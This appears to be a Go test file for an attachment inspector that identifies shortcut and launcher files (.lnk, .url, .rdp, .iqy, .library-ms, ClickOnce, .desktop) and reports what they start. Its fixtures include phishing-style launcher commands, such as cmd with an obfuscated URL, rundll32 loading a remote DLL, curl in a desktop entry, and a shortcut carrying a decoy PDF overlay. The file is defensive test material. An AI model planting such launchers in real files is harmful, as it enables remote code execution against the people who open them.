package attachment_test

import (
	"slices"
	"strings"
	"testing"

	"outrider/internal/attachment"
)

// link is a shortcut with arguments that starts a path of its environment block.
func link(path, arguments, overlay string) []byte {
	b := make([]byte, 76, 2048)
	copy(b, "L\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00\x46\x20\x02\x00\x00")
	b = append(b, byte(len(arguments)), byte(len(arguments)>>8))
	b = append(b, arguments...)
	block := make([]byte, 788)
	copy(block, "\x14\x03\x00\x00\x01\x00\x00\xa0"+path)
	return append(append(append(b, block...), 0, 0, 0, 0), overlay...)
}

func TestShortcutsSayWhatTheyStart(t *testing.T) {
	t.Parallel()
	for _, tt := range []struct{ name, data, format, action, url string }{
		{"a.lnk", string(link("%ComSpec%", "/c start h^ttps://a.example/x", "")), "lnk", "run %ComSpec% /c start h^ttps://a.example/x", "https://a.example/x"},
		{"b.lnk", string(link(`C:\Windows\System32\rundll32.exe`, `\\a.example@80\d\x.dll,Run`, "")), "lnk", `run C:\Windows\System32\rundll32.exe \\a.example@80\d\x.dll,Run`, `\\a.example@80\d\x.dll`},
		{"a.url", "[{000214A0-0000-0000-C000-000000000046}]\r\nProp3=19,11\r\n[InternetShortcut]\r\nURL=https://a.example/y\r\n", "url", "open https://a.example/y", "https://a.example/y"},
		{"a.rdp", "screen mode id:i:2\r\nfull address:s:a.example\r\n", "rdp", "connect a.example", ""},
		{"a.iqy", "WEB\n1\nhttps://a.example/q\n", "iqy", "query https://a.example/q", "https://a.example/q"},
		{"a.library-ms", "<?xml version=\"1.0\"?>\n<!-- x -->\n<libraryDescription xmlns=\"x\"><url>\\\\a.example\\d</url></libraryDescription>", "library-ms", `open-folder \\a.example\d`, `\\a.example\d`},
		{"a.application", "<asmv1:assembly><deployment><deploymentProvider codebase=\"https://a.example/a\"/></deployment></asmv1:assembly>", "clickonce", "install https://a.example/a", "https://a.example/a"},
		{"a.desktop", "#!/usr/bin/env xdg-open\n[Desktop Entry]\nExec=curl https://a.example/z\n", "desktop", "run curl https://a.example/z", "https://a.example/z"},
		{"a.webloc", "bplist00\xd1\x01\x02SURL\x5fhttps://a.exam\x08", "webloc", "", ""},
	} {
		f := inspect(tt.name, []byte(tt.data)).Files[0]
		if f.Format != tt.format || f.Document == nil {
			t.Errorf("%s: format %s, document %v", tt.name, f.Format, f.Document)
			continue
		}
		if tt.action != "" && !slices.Contains(f.Document.Actions, tt.action) || tt.url != "" && !slices.Contains(f.Document.URLs, tt.url) {
			t.Errorf("%s: actions %q, urls %q", tt.name, f.Document.Actions, f.Document.URLs)
		}
	}
}

func TestWhatIsAppendedToAShortcutIsAFile(t *testing.T) {
	t.Parallel()
	r := inspect("a.lnk", link("%ComSpec%", "/c x", "%PDF-1.7 decoy"))
	if len(r.Files) != 2 || r.Files[1].Format != "pdf" || r.Files[1].Name != "overlay" {
		t.Errorf("%+v", r.Files)
	}
}

// Texts that only mention the marks of shortcuts stay what they are.
func TestTextsThatAreNoShortcuts(t *testing.T) {
	t.Parallel()
	for text, want := range map[string]string{
		"<html><body><jnlp href='x'></body></html>":              "html",
		"<?xml version='1.0'?><plist><key>Other</key></plist>":   "xml",
		"<?xml version='1.0'?><assembly manifestVersion='1.0'/>": "xml",
		"see [InternetShortcut] in the manual":                   "txt",
		"From: a@b\nSubject: full address:s:\n\nhello":           "eml",
		"<": "txt",
	} {
		if _, format := attachment.Identify([]byte(text), "a"); format != want {
			t.Errorf("%q: %s, want %s", text, format, want)
		}
	}
}

// A web archive is a message, and its page and pictures are files.
func TestWebArchivesAreMessages(t *testing.T) {
	t.Parallel()
	mht := "From: <Saved by a browser>\r\nSubject: x\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n<html><a href=\"https://a.example/\">x</a></html>\r\n--b--\r\n"
	for _, text := range []string{mht, strings.Replace(mht, "From: <Saved by a browser>\r\nSubject: x\r\n", "", 1)} {
		r := inspect("a.mht", []byte(text))
		if len(r.Files) != 2 || r.Files[0].Format != "eml" || r.Files[1].Format != "html" {
			t.Errorf("%+v", r.Files)
		}
	}
}
